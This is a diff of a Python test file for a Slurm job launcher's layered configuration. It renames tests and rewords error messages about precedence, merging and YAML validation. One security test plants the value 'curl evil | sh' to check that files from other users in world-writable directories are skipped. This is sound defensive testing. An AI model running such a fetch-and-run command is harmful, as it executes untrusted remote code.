@@ -1,4 +1,4 @@
-"""The layers: which value wins, how lists merge, where each came from, and what a file may say."""
+"""The layers: precedence, merging of lists, the source of each value, and what a file can contain."""
 
 from __future__ import annotations
 
@@ -14,7 +14,7 @@ import pytest
 import yaml
 
 from slurm_launch.config import files as config_files
-from slurm_launch.config.profile import FACTS
+from slurm_launch.config.profile_keys import FACTS
 from slurm_launch.config.resolve import RESERVED, Resolution, resolve
 from slurm_launch.config.starter_file import file_schema, starter_file
 from slurm_launch.errors import InvalidSpec
@@ -53,7 +53,7 @@ def problems(resolution: Resolution) -> list[str]:
 
 
 class TestPrecedence:
-    def test_each_layer_beats_the_ones_below(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_a_higher_layer_overrides_lower_ones(self, monkeypatch: pytest.MonkeyPatch) -> None:
         etc = machine("partition: machine\nqos: machine\naccount: machine\ntime: 1\ncomment: machine")
         site = profile("juwels", "partition: profile\nqos: profile\naccount: profile\ntime: 2")
         here = project("profile: juwels\npartition: project\nqos: project\naccount: project")
@@ -84,7 +84,7 @@ class TestPrecedence:
         resolution = found({**NEEDED, **({"profile": "flag"} if chosen_by == "flag" else {})})
         assert resolution.spec().account == f"from-{chosen_by}"
 
-    def test_the_nearest_project_file_upward(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_the_nearest_project_file_in_a_parent_directory(self, monkeypatch: pytest.MonkeyPatch) -> None:
         project("account: far\nqos: far")
         project("account: near", "a/b/slurm-launch.yaml")
         Path("a/b/c/d").mkdir(parents=True)
@@ -106,7 +106,7 @@ class TestPrecedence:
         profile("x", "account: user")
         assert found({**NEEDED, "profile": "x"}).spec().account == "user"
 
-    def test_default_places(self) -> None:
+    def test_default_directories(self) -> None:
         assert config_files.user_folder({"HOME": "/home/me"}) == Path("/home/me/.config/slurm-launch")
         assert config_files.user_folder({"HOME": "/h", "XDG_CONFIG_HOME": "relative"}) == Path(
             "/h/.config/slurm-launch"
@@ -117,7 +117,7 @@ class TestPrecedence:
             Path("/a/slurm-launch"), Path("/c/slurm-launch"),
         ]  # fmt: skip
 
-    def test_a_strangers_file_in_a_public_place_is_passed_over(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_another_users_file_in_a_world_writable_directory_is_skipped(self, monkeypatch: pytest.MonkeyPatch) -> None:
         path = project("load-env: curl evil | sh")
         path.parent.chmod(0o1777)
         monkeypatch.setattr(os, "getuid", lambda: path.stat().st_uid + 1)
@@ -128,13 +128,13 @@ class TestPrecedence:
         assert str(path) in resolution.warnings[0]
         assert "--config" in resolution.warnings[0]
         assert found({**NEEDED, "config": str(path)}).spec().load_env == ("curl evil | sh",)
-        path.parent.chmod(0o755)  # a colleague's file in a place of the project's own is fine
+        path.parent.chmod(0o755)  # another user's file is fine in a directory that not everyone can write to
         path.chmod(stat.S_IRUSR | stat.S_IWUSR | stat.S_IRGRP | stat.S_IROTH)
         assert found(NEEDED).spec().load_env == ("curl evil | sh",)
 
 
 class TestMerging:
-    def test_lists_append_from_weak_to_strong(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_lists_append_from_low_to_high_precedence(self, monkeypatch: pytest.MonkeyPatch) -> None:
         site = profile("p", "modules: [gcc]\nray-arg: -v")
         here = project("profile: p\nmodules:\n  - cuda/12.4\n  - gcc\nray-arg: [-v]")
         monkeypatch.setenv("SLAUNCH_MODULES", "nccl 'a b'")
@@ -154,16 +154,14 @@ class TestMerging:
         assert spec.sbatch == {"gres": "nvme:2", "exclusive": None}
 
     @pytest.mark.parametrize("empty", ["[]", "", "null", "~", '""', '[""]'])
-    def test_an_empty_list_in_a_file_drops_what_was_below(self, empty: str) -> None:
+    def test_an_empty_list_in_a_file_clears_lower_layers(self, empty: str) -> None:
         profile("p", "modules: [gcc]\nenv: {A: 1}")
         project(f"profile: p\nmodules: {empty}\nenv: {empty if '[' not in empty else '{}'}")
         spec = found({**NEEDED, "modules": ["mine"]}).spec()
         assert spec.modules == ("mine",)
         assert spec.env == {}
 
-    def test_an_empty_item_drops_on_the_command_line_and_in_the_environment(
-        self, monkeypatch: pytest.MonkeyPatch
-    ) -> None:
+    def test_an_empty_item_clears_in_flags_and_variables(self, monkeypatch: pytest.MonkeyPatch) -> None:
         project("modules: [gcc]\nenv: {A: 1}\nload-env: [one]")
         spec = found({**NEEDED, "modules": ["", "mine"], "env": [""]}).spec()
         assert (spec.modules, spec.env) == (("mine",), {})
@@ -174,18 +172,18 @@ class TestMerging:
         monkeypatch.setenv("SLAUNCH_LOAD_ENV", "module load cuda && source 'x y'")
         assert found(NEEDED).spec().load_env == ("module load cuda && source 'x y'",)
 
-    def test_null_takes_one_value_back(self) -> None:
+    def test_null_resets_a_value(self) -> None:
         profile("p", "partition: main\ntime: 10")
         project("profile: p\npartition: ~\ntime:")
         spec = found(NEEDED).spec()
         assert (spec.partition, spec.time) == (None, None)
 
-    def test_an_empty_variable_is_as_good_as_none(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_an_empty_variable_counts_as_unset(self, monkeypatch: pytest.MonkeyPatch) -> None:
         project("partition: main")
         monkeypatch.setenv("SLAUNCH_PARTITION", "")
         assert found(NEEDED).spec().partition == "main"
 
-    def test_an_alternative_replaces_its_siblings_below(self) -> None:
+    def test_an_alternative_replaces_those_of_lower_layers(self) -> None:
         profile("p", "mem-per-cpu: 4G")
         project("profile: p\nmem: 8G")
         assert (found(NEEDED).spec().mem, found(NEEDED).spec().mem_per_cpu) == ("8G", None)
@@ -195,10 +193,10 @@ class TestMerging:
     def test_two_alternatives_in_one_layer_are_an_error(self) -> None:
         path = project("mem: 4G\nmem-per-cpu: 1G")
         (problem,) = problems(found(NEEDED))
-        assert problem.startswith("--mem and --mem-per-cpu exclude one another")
+        assert problem.startswith("--mem and --mem-per-cpu are mutually exclusive")
         assert f"at: {path}:1, {path}:2" in problem
-        assert len(problems(found({**NEEDED, "time": "soon"}))) == 2, "told together with other problems"
-        assert "--mem and --mem-per-cpu" in problems(found({**NEEDED, "mem_per_gpu": "1G"}))[0], "overruled or not"
+        assert len(problems(found({**NEEDED, "time": "soon"}))) == 2, "reported together with other problems"
+        assert "--mem and --mem-per-cpu" in problems(found({**NEEDED, "mem_per_gpu": "1G"}))[0], "even if overridden"
 
     @pytest.mark.parametrize("variable", ["1", "true", "YES", "on"])
     def test_switches_in_the_environment(self, variable: str, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -210,7 +208,7 @@ class TestMerging:
 
 
 class TestYaml:
-    def test_text_arrives_as_written(self) -> None:
+    def test_values_are_used_as_written(self) -> None:
         project(
             "exp-name: 0x10\ncommand: |\n  echo 1\n  echo 2\ntime: 1:30:00\naccount: 0123\npartition: no\n"
             "begin: 2026-01-01\nqos: 1e3\ncomment: 3.10\nreservation: 'null'\n"
@@ -228,16 +226,16 @@ class TestYaml:
     @pytest.mark.parametrize(
         "time", ["90", "90:00", "1:30:00", "2-12", "2-12:30", "2-12:30:15", "01:30:00", "UNLIMITED"]
     )
-    def test_every_form_of_time(self, time: str) -> None:
+    def test_every_time_format(self, time: str) -> None:
         project(f"time: {time}")
         assert found(NEEDED).spec().time == time
 
-    def test_underscores_do_as_well(self) -> None:
+    def test_underscores_and_hyphens_are_equivalent(self) -> None:
         project("cpus_per_task: 8\nnum-nodes: 2")
         assert (found(NEEDED).spec().cpus_per_task, found(NEEDED).spec().num_nodes) == (8, 2)
 
     @pytest.mark.parametrize("text", ["", "# nothing\n", "---\n", "null\n", "{}\n", "\ufeffaccount: a\n"])
-    def test_a_file_may_be_empty_or_begin_with_a_mark(self, text: str) -> None:
+    def test_a_file_may_be_empty_or_begin_with_a_byte_order_mark(self, text: str) -> None:
         project(text)
         found(NEEDED).spec()
 
@@ -252,21 +250,21 @@ class TestYaml:
             ("nodes: 3", 1, ("unknown key 'nodes'", "did you mean 'num-nodes'?")),
             ("Partition: x", 1, ("unknown key 'Partition'", "did you mean 'partition'?")),
             ("zzzzqqq: 3", 1, ("unknown key 'zzzzqqq'", "sbatch:")),
-            ("time: 1\n\ntime: 2", 3, ("time is given twice", "keep one")),
-            ("run-dir: a\nrun_dir: b", 2, ("run_dir is given twice", "keep one")),
-            ("config: x", 1, ("config cannot stand in this file", "flag")),
+            ("time: 1\n\ntime: 2", 3, ("time is set twice", "keep one")),
+            ("run-dir: a\nrun_dir: b", 2, ("run_dir is set twice", "keep one")),
+            ("config: x", 1, ("config is not allowed in this file", "flag")),
             ("exp-name:\n  - a", 1, ("exp-name takes one value, not a list", "exp-name: VALUE")),
             ("time: {a: b}", 1, ("time takes one value, not a mapping", "time: VALUE")),
             ("modules: {a: b}", 1, ("modules takes a list, not a mapping", "[ONE, TWO]")),
-            ("modules:\n- a\n- [b]", 3, ("modules has an item that is not a plain text", "no list into a list")),
-            ("modules:\n- a\n-", 3, ("modules has an item without text", "remove it")),
-            ("env: {A: [1]}", 1, ("env has an item that is not a plain text", "")),
+            ("modules:\n- a\n- [b]", 3, ("modules has an item that is not plain text", "do not nest")),
+            ("modules:\n- a\n-", 3, ("modules has an empty item", "remove it")),
+            ("env: {A: [1]}", 1, ("env has an item that is not plain text", "")),
             ("env:\n  A: 1\n  A: 2", 3, ("env has A twice", "keep one")),
-            ("env: {A=B: 1}", 1, ("env has a key that cannot be one: 'A=B'", "KEY: VALUE")),
+            ("env: {A=B: 1}", 1, ("env has an invalid key: 'A=B'", "KEY: VALUE")),
             ("- a\n- b", 1, ("the file is not a mapping", "partition: main")),
             ("just text", 1, ("the file is not a mapping", "partition: main")),
             ("? [a]\n: b", 1, ("a key is not a plain name", "")),
-            ("a: b: c", 1, ("not valid YAML", "in quotes")),
+            ("a: b: c", 1, ("not valid YAML", "quote texts")),
             ("time: 1\n\taccount: x", 2, ("not valid YAML", "spaces, not tabs")),
             ("time: [1\naccount: x", 2, ("not valid YAML", "")),
             ("time: 1\n---\ntime: 2", 2, ("not valid YAML", "")),
@@ -277,26 +275,26 @@ class TestYaml:
             ("<<: {time: 1}", 1, ("unknown key '<<'", "")),
         ],
     )
-    def test_a_bad_file_is_told_with_its_line(self, text: str, line: int, expected: tuple[str, str]) -> None:
+    def test_an_error_in_a_file_names_the_line(self, text: str, line: int, expected: tuple[str, str]) -> None:
         path = project(text)
         (problem,) = problems(found(NEEDED))
         assert expected[0] in problem
         assert f"{path}:{line}" in problem
         assert expected[1] in problem.partition("hint:")[2]
 
-    def test_all_problems_at_once_and_no_false_ones(self) -> None:
+    def test_all_errors_are_reported_at_once_and_no_false_ones(self) -> None:
         path = project("tiem: 1\nmem: 4XB\nnum-nodes: x")
-        told = problems(found({"time": "soon"}))
-        assert [text.splitlines()[0] for text in told] == [
+        texts = problems(found({"time": "soon"}))
+        assert [text.splitlines()[0] for text in texts] == [
             "unknown key 'tiem'",
             "--num-nodes is not a whole number: 'x'",
             "--mem is not an amount of memory: '4XB'",
-            "--time is not a time that Slurm knows: 'soon'",
-        ], "exp-name may stand in the line that could not be read, so it is not called missing"
-        assert f"at: {path}:2" in told[2]
-        assert "at: flag --time" in told[3]
+            "--time is not a valid Slurm time: 'soon'",
+        ], "exp-name may be in the line that could not be read, so it is not reported as missing"
+        assert f"at: {path}:2" in texts[2]
+        assert "at: flag --time" in texts[3]
 
-    def test_a_bad_item_is_told_with_its_own_line(self) -> None:
+    def test_an_error_in_an_item_names_its_own_line(self) -> None:
         path = project('modules:\n  - gcc\n  - "a\\nb"')
         (problem,) = problems(found({**NEEDED, "modules": ["c"]}))
         assert problem.startswith("--modules contains a line break")
@@ -309,7 +307,7 @@ class TestYaml:
         assert "not UTF-8" in problem
         assert f"{path}:2" in problem
 
-    def test_a_file_without_end(self) -> None:
+    def test_an_endless_file(self) -> None:
         (problem,) = problems(found({**NEEDED, "config": "/dev/zero"}))
         assert "larger than" in problem
 
@@ -337,19 +335,19 @@ class TestYaml:
         profile("juwels", "")
         profile("leonardo", "")
         (problem,) = problems(found({**NEEDED, "profile": "juwles"}))
-        assert "did you mean 'juwels'? there are: juwels, leonardo" in problem
+        assert "did you mean 'juwels'? available: juwels, leonardo" in problem
 
     @pytest.mark.parametrize("name", ["../x", "/etc/passwd", ".x", "a\nb"])
     def test_a_profile_is_a_name(self, name: str) -> None:
-        assert problems(found({**NEEDED, "profile": name}))[0].startswith("--profile is not the name of a profile")
+        assert problems(found({**NEEDED, "profile": name}))[0].startswith("--profile is not a valid profile name")
 
     def test_a_profile_cannot_choose_a_profile(self) -> None:
         path = profile("a", "profile: b")
         (problem,) = problems(found({**NEEDED, "profile": "a"}))
-        assert "profile cannot stand in this file" in problem
+        assert "profile is not allowed in this file" in problem
         assert f"{path}:1" in problem
 
-    def test_a_template_lies_beside_its_file(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_a_template_is_relative_to_its_file(self, monkeypatch: pytest.MonkeyPatch) -> None:
         project("template: tpl/my.j2\nrun-dir: runs\nvenv: venv\nchdir: here")
         Path("a/b").mkdir(parents=True)
         monkeypatch.chdir("a/b")
@@ -362,19 +360,19 @@ class TestYaml:
 
 
 class TestVariables:
-    def test_an_unknown_one_is_a_warning(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_an_unknown_variable_is_a_warning(self, monkeypatch: pytest.MonkeyPatch) -> None:
         monkeypatch.setenv("SLAUNCH_PARTITON", "x")
         monkeypatch.setenv("SLAUNCH_QQQQ", "x")
         first, second = found(NEEDED).warnings
         assert first == "unknown variable SLAUNCH_PARTITON is ignored; did you mean SLAUNCH_PARTITION?"
         assert second == "unknown variable SLAUNCH_QQQQ is ignored"
 
-    def test_those_of_the_script_are_silent(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_variables_set_by_the_script_are_ignored(self, monkeypatch: pytest.MonkeyPatch) -> None:
         for name in RESERVED:
             monkeypatch.setenv(name, "x")
         assert found(NEEDED).warnings == ()
 
-    def test_every_option_has_one(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_every_option_has_a_variable(self, monkeypatch: pytest.MonkeyPatch) -> None:
         for name in options():
             monkeypatch.setenv(f"SLAUNCH_{name.upper()}", "")
         assert found(NEEDED).warnings == ()
@@ -385,18 +383,18 @@ class TestVariables:
         assert problem.startswith("--modules cannot be split")
         assert "at: env SLAUNCH_MODULES" in problem
 
-    def test_a_bad_value_is_told_with_its_variable(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_an_error_in_a_value_names_its_variable(self, monkeypatch: pytest.MonkeyPatch) -> None:
         monkeypatch.setenv("SLAUNCH_EXCLUSIVE", "perhaps")
         monkeypatch.setenv("SLAUNCH_AUTH", "tokn")
         switch, choice = problems(found(NEEDED))
         assert switch.startswith("--exclusive is neither true nor false: 'perhaps'")
         assert "at: env SLAUNCH_EXCLUSIVE" in switch
-        assert choice.startswith("--auth has no choice 'tokn'")
+        assert choice.startswith("--auth has an invalid value: 'tokn'")
         assert "did you mean 'token'? choose from token, off" in choice
 
 
 class TestEmbedding:
-    def test_own_and_site_are_kept_apart(self, monkeypatch: pytest.MonkeyPatch) -> None:
+    def test_own_and_site_values_are_separate(self, monkeypatch: pytest.MonkeyPatch) -> None:
         machine("qos: machine\nmodules: [base]")
         profile("p", "account: site\nmodules: [gcc]\nenv: {A: 1}")
         project("profile: p\nmodules: [cuda]\nnum-nodes: 3\nexclusive: true")
@@ -430,7 +428,7 @@ class TestEmbedding:
         spec = found({"profile": "new"}, self.round_trip(first)).spec()
         assert (spec.account, spec.partition, spec.mem, spec.mem_per_cpu) == (None, "new", None, "2G")
         assert spec.modules == ("new", "mine")
-        assert spec.load_env == ("mine",), "the project's wish to drop the site's lines outlives the site"
+        assert spec.load_env == ("mine",), "the project's reset applies to another site's lines, too"
         assert spec.env == {}
         assert (spec.profile, spec.exp_name) == ("new", "test")
 
@@ -454,13 +452,13 @@ class TestTexts:
         assert len(lines) > 40
         return "\n".join(lines)
 
-    # Options beside which another one stands, too.
+    # Options that need another one.
     SECOND = (
         *("mem-per", "profile", "idle", "signal:", "array", "sweep-file", "chain", "grow"),
         *("head-cpus", "head-mem", "head-partition", "head-constraint", "worker-group"),
     )
 
-    def test_the_starter_file_is_valid_with_every_option_taken_in(self) -> None:
+    def test_the_starter_file_is_valid_with_every_option_uncommented(self) -> None:
         text = self.uncommented(starter_file())
         given = yaml.safe_load(text)
         assert set(given) == {name.replace("_", "-") for name, option in options().items() if option.layered}
@@ -469,7 +467,7 @@ class TestTexts:
         spec = found().spec()
         assert (spec.num_nodes, spec.time, spec.env) == (3, "1:30:00", {"OMP_NUM_THREADS": "4"})
 
-    def test_the_starter_file_changes_nothing_as_it_is(self) -> None:
+    def test_the_unchanged_starter_file_sets_nothing(self) -> None:
         project(starter_file())
         assert found(NEEDED).values == NEEDED
 
@@ -480,7 +478,7 @@ class TestTexts:
             for name, option in options().items()
             if option.layered and option.group != EXPERIMENT and name != "profile"
         } | {name.replace("_", "-") for name in FACTS}
-        assert list(yaml.safe_load(text))[: len(FACTS)] == [name.replace("_", "-") for name in FACTS], "the site first"
+        assert list(yaml.safe_load(text))[: len(FACTS)] == [name.replace("_", "-") for name in FACTS], "the facts first"
         assert "\n  gpu:\n    time: " in text, "in block style"
         facts = {name.replace("_", "-"): fact.example for name, fact in FACTS.items()}
         assert {**yaml.safe_load(text), "partitions": None}.items() >= {**facts, "partitions": None}.items()
